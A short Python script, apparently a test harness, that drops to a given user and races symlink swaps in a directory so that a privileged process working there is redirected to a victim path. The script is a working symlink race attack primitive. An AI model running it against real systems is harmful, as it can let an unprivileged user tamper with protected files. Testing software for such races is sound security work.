"""swapper.py UID DIR VICTIM: as this user, makes DIR/d and DIR/f a directory and a file, then links to VICTIM and VICTIM/f, and
so on, as fast as it can, until it is killed."""
import os, sys

uid, top, victim = int(sys.argv[1]), sys.argv[2], sys.argv[3]
os.setgroups([])
os.setgid(uid)
os.setuid(uid)
os.chdir(top)
os.symlink(victim, "link-d")
os.symlink(victim + "/f", "link-f")
while True:
    for name in ("d", "f"):
        try:
            os.rename(name, "true-" + name)
            os.rename("link-" + name, name)
            os.rename(name, "link-" + name)
            os.rename("true-" + name, name)
        except PermissionError:
            pass
